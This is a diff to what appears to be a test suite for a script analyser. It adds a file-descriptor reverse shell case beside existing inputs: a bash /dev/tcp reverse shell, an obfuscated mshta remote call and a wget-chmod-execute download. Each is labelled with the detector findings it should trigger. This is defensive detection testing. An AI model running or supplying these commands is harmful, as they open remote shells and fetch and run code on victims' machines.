@@ -40,6 +40,7 @@ describe('what a script does', () => {
     { text: 'm^s^h^t^a ht^tp://a.example/x.hta', type: 'bat', findings: ['Script.HiddenCalls medium', 'Windows.MshtaRemote high'], because: 'carets hid mshta' },
     { text: '@echo off\r\nif not exist "%ProgramFiles%\\x" mkdir x\r\nstart notepad', type: 'bat', findings: [], because: 'everyday batch' },
     { text: 'bash -i >& /dev/tcp/198.51.100.1/443 0>&1', type: 'sh', findings: ['Shell.ReverseShell high'], because: 'a reverse shell' },
+    { text: 'exec 5<>/dev/tcp/198.51.100.1/443\nsh <&5 >&5 2>&5', type: 'sh', findings: ['Shell.ReverseShell high'], because: 'a shell over a descriptor' },
     { text: 'if (exec 3<>/dev/tcp/localhost/80) 2>/dev/null; then echo up; fi', type: 'sh', findings: [], because: 'it asks whether a port is open' },
     { text: 'curl -fsSL https://sh.example.org | sh', type: 'sh', findings: [], because: 'installers are called so' },
     { text: 'cd /tmp; wget http://198.51.100.1/a.sh; chmod 777 a.sh; ./a.sh', type: 'sh', findings: ['Shell.FetchFromAddress high'], because: 'bots spread so' },
